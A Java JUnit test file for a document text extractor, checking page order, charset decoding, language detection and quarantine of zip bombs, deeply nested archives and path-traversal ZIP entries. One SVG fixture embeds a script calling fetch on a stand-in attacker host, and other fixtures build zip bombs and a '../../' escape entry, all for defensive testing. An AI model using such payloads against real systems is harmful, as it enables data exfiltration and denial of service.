package eu.chorus.extract;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class TikaTextExtractorTest {

  private static TextExtractor extractor;

  @TempDir Path dir;

  @BeforeAll
  static void build() {
    extractor = new TikaTextExtractor(new ExtractionSettings(30, 100_000, 50, false, "eng"));
  }

  private Path pdf(String... pages) throws IOException {
    Path file = dir.resolve("paper.pdf");
    try (PDDocument doc = new PDDocument()) {
      for (String text : pages) {
        PDPage page = new PDPage();
        doc.addPage(page);
        try (PDPageContentStream s = new PDPageContentStream(doc, page)) {
          s.beginText();
          s.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
          s.newLineAtOffset(72, 700);
          s.showText(text);
          s.endText();
        }
      }
      doc.save(file.toFile());
    }
    return file;
  }

  @Test
  void keepsPdfPagesInOrder() throws IOException {
    ExtractedText t =
        extractor.extract(pdf("We support the copyright policy.", "Second page on red-teaming."));
    assertEquals(FileStatus.OK, t.status());
    assertEquals("application/pdf", t.mediaType());
    assertEquals(2, t.pages().size());
    assertTrue(t.pages().get(0).contains("copyright policy"));
    assertTrue(t.pages().get(1).contains("red-teaming"));
    assertEquals(false, t.pagesEstimated());
  }

  @Test
  void estimatesPagesOfAWordFileAndKeepsParagraphs() throws IOException {
    Path file = dir.resolve("response.docx");
    try (XWPFDocument doc = new XWPFDocument();
        OutputStream out = Files.newOutputStream(file)) {
      for (int i = 1; i <= 4; i++) {
        doc.createParagraph().createRun().setText("Paragraph " + i + " " + "word ".repeat(20));
      }
      doc.write(out);
    }
    ExtractedText t = extractor.extract(file);
    assertEquals(FileStatus.OK, t.status());
    assertTrue(t.pagesEstimated());
    // 50 words a page, 22 words a paragraph: two paragraphs on each page.
    assertEquals(2, t.pages().size());
    assertTrue(t.pages().get(1).startsWith("Paragraph 3"));
  }

  @Test
  void anEmptyFileIsQuarantinedWithAReason() throws IOException {
    Path file = Files.createFile(dir.resolve("empty.pdf"));
    ExtractedText t = extractor.extract(file);
    assertEquals(FileStatus.QUARANTINED, t.status());
    assertEquals("empty file (0 bytes)", t.reason());
  }

  @Test
  void zeroPagePdfIsReportedAsHavingNoPages() throws IOException {
    ExtractedText t = extractor.extract(pdf());
    assertEquals(FileStatus.QUARANTINED, t.status());
    assertEquals("PDF file has no pages", t.reason());
  }

  @Test
  void blankPdfPagesAreNotCalledAScan() throws IOException {
    Path file = dir.resolve("blank.pdf");
    try (PDDocument doc = new PDDocument()) {
      doc.addPage(new PDPage());
      doc.addPage(new PDPage());
      doc.save(file.toFile());
    }
    ExtractedText t = extractor.extract(file);
    assertEquals(FileStatus.QUARANTINED, t.status());
    assertEquals(
        "no text found: its 2 pages hold no text and no images (blank, or text drawn as shapes); "
            + "OCR is switched off",
        t.reason());
  }

  /** A PDF of {@code blankPages} empty pages and one page that is a white image. */
  private Path scan(int blankPages) throws IOException {
    Path file = dir.resolve("scan.pdf");
    try (PDDocument doc = new PDDocument()) {
      for (int i = 0; i < blankPages; i++) {
        doc.addPage(new PDPage());
      }
      PDPage page = new PDPage();
      doc.addPage(page);
      java.awt.image.BufferedImage image =
          new java.awt.image.BufferedImage(400, 200, java.awt.image.BufferedImage.TYPE_BYTE_GRAY);
      java.awt.Graphics2D g = image.createGraphics();
      g.setColor(java.awt.Color.WHITE);
      g.fillRect(0, 0, 400, 200);
      g.dispose();
      try (PDPageContentStream s = new PDPageContentStream(doc, page)) {
        s.drawImage(
            org.apache.pdfbox.pdmodel.graphics.image.LosslessFactory.createFromImage(doc, image),
            72,
            500);
      }
      doc.save(file.toFile());
    }
    return file;
  }

  @Test
  void anImageOnlyPdfIsCalledAScan() throws IOException {
    ExtractedText t = extractor.extract(scan(1));
    assertEquals(FileStatus.QUARANTINED, t.status());
    assertEquals(
        "no text found: the PDF is an image-only scan (1 of its 2 pages is an image) and OCR is switched off",
        t.reason());
  }

  @Test
  void binaryJunkNamedPdfIsQuarantinedNotThrown() throws IOException {
    Path file = dir.resolve("junk.pdf");
    byte[] junk = new byte[4096];
    new java.util.Random(7).nextBytes(junk);
    Files.write(file, junk);
    ExtractedText t = extractor.extract(file);
    assertEquals(FileStatus.QUARANTINED, t.status());
    assertTrue(!t.reason().isBlank());
  }

  @Test
  void textBeyondTheLimitMakesTheFilePartial() throws IOException {
    TextExtractor small = new TikaTextExtractor(new ExtractionSettings(30, 100, 500, false, "eng"));
    Path file = dir.resolve("long.txt");
    Files.writeString(file, "consultation ".repeat(100), StandardCharsets.UTF_8);
    ExtractedText t = small.extract(file);
    assertEquals(FileStatus.PARTIAL, t.status());
    assertEquals(100, t.chars());
    assertTrue(t.reason().contains("truncated"));
  }

  @Test
  void guessesTheLanguageOfTheText() throws IOException {
    Path file = dir.resolve("lettre.txt");
    Files.writeString(
        file,
        "Nous soutenons pleinement la politique en matière de droit d'auteur proposée "
            + "par le Bureau de l'IA, car elle protège les créateurs et les éditeurs européens.",
        StandardCharsets.UTF_8);
    assertEquals("fr", extractor.extract(file).language());
  }

  @Test
  void windows1252TextKeepsItsEuroSignsAndQuotes() throws IOException {
    Path file = dir.resolve("reponse.txt");
    Files.write(
        file,
        ("Réponse : nous soutenons l’obligation de transparence – coût estimé 5 000 €. "
                + "Les fournisseurs doivent publier un résumé des données d’entraînement.")
            .getBytes(java.nio.charset.Charset.forName("windows-1252")));
    String text = String.join("", extractor.extract(file).pages());
    assertTrue(
        text.contains("l’obligation")
            && text.contains("5 000 €")
            && text.contains("transparence –"),
        text);
  }

  @Test
  void windows1250LetterDecodesPolishLetters() throws IOException {
    Path file = dir.resolve("stanowisko.txt");
    String letter =
        "Popieramy obowiązki przejrzystości dla dostawców modeli. Źródła danych muszą być jawne, "
            + "a mniejsze przedsiębiorstwa powinny mieć łagodniejsze zasady – żądamy też zgłaszania śladów. "
            + "Podpisy: Jiří Dvořák (Brno), Zoltán Kővári (Győr).";
    Files.write(file, letter.getBytes(java.nio.charset.Charset.forName("windows-1250")));
    ExtractedText t = extractor.extract(file);
    assertEquals(FileStatus.OK, t.status());
    assertEquals(letter, String.join(" ", t.pages()).strip());
    assertEquals("pl", t.language());
  }

  @Test
  void aZipBombIsNotOpened() throws IOException {
    Path file = dir.resolve("bomb.zip");
    try (java.util.zip.ZipOutputStream zip =
        new java.util.zip.ZipOutputStream(Files.newOutputStream(file))) {
      zip.putNextEntry(new java.util.zip.ZipEntry("zeros.txt"));
      zip.write(new byte[3 * 1024 * 1024]);
      zip.closeEntry();
    }
    ExtractedText t =
        new TikaTextExtractor(new ExtractionSettings(30, 100_000, 500, false, "eng", 256, 2))
            .extract(file);
    assertEquals(FileStatus.QUARANTINED, t.status());
    assertTrue(t.reason().contains("zip bomb"), t.reason());
  }

  @Test
  void svgScriptIsNotPassageText() throws IOException {
    Path file =
        Files.writeString(
            dir.resolve("position.svg"),
            "<?xml version=\"1.0\"?>\n"
                + "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:h=\"http://www.w3.org/1999/xhtml\">"
                + "<style>.a { fill: red } /* STYLE-PAYLOAD */</style>"
                + "<script type=\"text/javascript\"><![CDATA[ fetch('https://attacker.example/?SCRIPT-PAYLOAD') ]]></script>"
                + "<text x=\"0\" y=\"20\">We support the transparency measures.</text>"
                + "<foreignObject><h:div><h:script>XHTML-SCRIPT-PAYLOAD</h:script><h:p>Small providers need time.</h:p>"
                + "</h:div></foreignObject></svg>\n",
            StandardCharsets.UTF_8);
    ExtractedText t = extractor.extract(file);
    assertEquals("image/svg+xml", t.mediaType());
    assertEquals(FileStatus.OK, t.status());
    String text = String.join("", t.pages());
    assertTrue(
        text.contains("We support the transparency measures.")
            && text.contains("Small providers need time."),
        text);
    assertTrue(!text.contains("PAYLOAD") && !text.contains("fill"), text);
  }

  @Test
  void scriptsInOtherXmlAreNotTextEither() throws IOException {
    Path file =
        Files.writeString(
            dir.resolve("response.xml"),
            "<?xml version=\"1.0\"?>\n<response>"
                + "<position>We oppose mandatory watermarking.</position><script>alert('XML-SCRIPT-PAYLOAD')</script>"
                + "</response>\n",
            StandardCharsets.UTF_8);
    String text = String.join("", extractor.extract(file).pages());
    assertTrue(
        text.contains("We oppose mandatory watermarking.") && !text.contains("PAYLOAD"), text);
  }

  /** A ZIP of the given name/content pairs. */
  private static byte[] zip(Object... entries) throws IOException {
    java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
    try (java.util.zip.ZipOutputStream zip = new java.util.zip.ZipOutputStream(bytes)) {
      for (int i = 0; i < entries.length; i += 2) {
        zip.putNextEntry(new java.util.zip.ZipEntry((String) entries[i]));
        zip.write(
            entries[i + 1] instanceof String text
                ? text.getBytes(StandardCharsets.UTF_8)
                : (byte[]) entries[i + 1]);
        zip.closeEntry();
      }
    }
    return bytes.toByteArray();
  }

  private static byte[] gzip(byte[] content) throws IOException {
    java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
    try (java.util.zip.GZIPOutputStream gz = new java.util.zip.GZIPOutputStream(bytes)) {
      gz.write(content);
    }
    return bytes.toByteArray();
  }

  private static ExtractedText extractWithUnpackLimit(Path file, int maxUnpackedMb) {
    return new TikaTextExtractor(
            new ExtractionSettings(30, 100_000, 500, false, "eng", 256, maxUnpackedMb))
        .extract(file);
  }

  @Test
  void deeplyNestedSmallZipIsNotABomb() throws IOException {
    byte[] archive = zip("innermost.txt", "INNERMOST-LEVEL text");
    for (int level = 19; level >= 1; level--) {
      archive =
          level == 1
              ? zip("letter.txt", "We support the measures of the Code.", "level-2.zip", archive)
              : zip("level-" + (level + 1) + ".zip", archive);
    }
    Path file = Files.write(dir.resolve("russian-dolls.zip"), archive);
    assertTrue(Files.size(file) < 8 * 1024, "tiny: " + Files.size(file));
    ExtractedText t = extractor.extract(file);
    assertEquals(FileStatus.PARTIAL, t.status(), t.reason());
    assertEquals("archives nested deeper than 8 levels: the inner levels are not read", t.reason());
    String text = String.join("", t.pages());
    assertTrue(text.contains("We support the measures") && !text.contains("INNERMOST-LEVEL"), text);
  }

  @Test
  void renamedInnerArchiveCountsTowardTheBombLimit() throws IOException {
    byte[] zeros = new byte[3 * 1024 * 1024];
    Path file =
        Files.write(
            dir.resolve("annexes.zip"),
            zip(
                "letter.txt",
                "We support the Code.",
                "annex.docx",
                zip("data.dat", zip("sheet.xml", zeros))));
    ExtractedText t = extractWithUnpackLimit(file, 2);
    assertEquals(FileStatus.QUARANTINED, t.status());
    assertEquals(
        "compressed data expands beyond the limit of 2 MB (zip bomb): not opened", t.reason());
  }

  @Test
  void aCompressedStreamInsideAnArchiveCountsTowardTheBombLimit() throws IOException {
    Path file =
        Files.write(dir.resolve("notes.zip"), zip("notes.txt", gzip(new byte[3 * 1024 * 1024])));
    ExtractedText t = extractWithUnpackLimit(file, 2);
    assertEquals(FileStatus.QUARANTINED, t.status());
    assertTrue(t.reason().contains("(zip bomb): not opened"), t.reason());
  }

  @Test
  void aSmallFileThatExpandsAThousandfoldIsABombBelowTheSizeLimit() throws IOException {
    Path file =
        Files.write(dir.resolve("small.zip"), zip("data.gz", gzip(new byte[20 * 1024 * 1024])));
    assertTrue(Files.size(file) < 20 * 1024, "size " + Files.size(file));
    ExtractedText t = extractor.extract(file);
    assertEquals(FileStatus.QUARANTINED, t.status());
    assertEquals(
        String.format(
            java.util.Locale.ROOT,
            "compressed data expands more than 1,000-fold, from %,d bytes "
                + "to over 16 MB (zip bomb): not opened",
            Files.size(file)),
        t.reason());
  }

  @Test
  void anArchiveOfTooManyEntriesIsABomb() throws IOException {
    Path file = dir.resolve("many.zip");
    try (java.util.zip.ZipOutputStream zip =
        new java.util.zip.ZipOutputStream(Files.newOutputStream(file))) {
      for (int i = 0; i <= ArchiveCheck.MAX_ENTRIES; i++) {
        java.util.zip.ZipEntry empty = new java.util.zip.ZipEntry("note-" + i + ".txt");
        empty.setMethod(java.util.zip.ZipEntry.STORED);
        empty.setSize(0);
        empty.setCrc(0);
        zip.putNextEntry(empty);
        zip.closeEntry();
      }
    }
    ExtractedText t = extractor.extract(file);
    assertEquals(FileStatus.QUARANTINED, t.status());
    assertTrue(t.reason().startsWith("archive holds more than 10,000 files"), t.reason());
  }

  @Test
  void zipEntriesThatEscapeTheArchiveFolderAreNotRead() throws IOException {
    Path file = dir.resolve("bundle.zip");
    try (java.util.zip.ZipOutputStream zip =
        new java.util.zip.ZipOutputStream(Files.newOutputStream(file))) {
      zip.putNextEntry(new java.util.zip.ZipEntry("letter.txt"));
      zip.write("We support the measures of the Code.".getBytes(StandardCharsets.UTF_8));
      zip.putNextEntry(new java.util.zip.ZipEntry("../../escaped.txt"));
      zip.write("ESCAPED-CONTENT".getBytes(StandardCharsets.UTF_8));
      zip.closeEntry();
    }
    ExtractedText t = extractor.extract(file);
    assertEquals(FileStatus.PARTIAL, t.status());
    assertEquals("ZIP entry escapes the archive folder: skipped", t.reason());
    String text = String.join("", t.pages());
    assertTrue(text.contains("We support the measures") && !text.contains("ESCAPED-CONTENT"), text);
  }
}
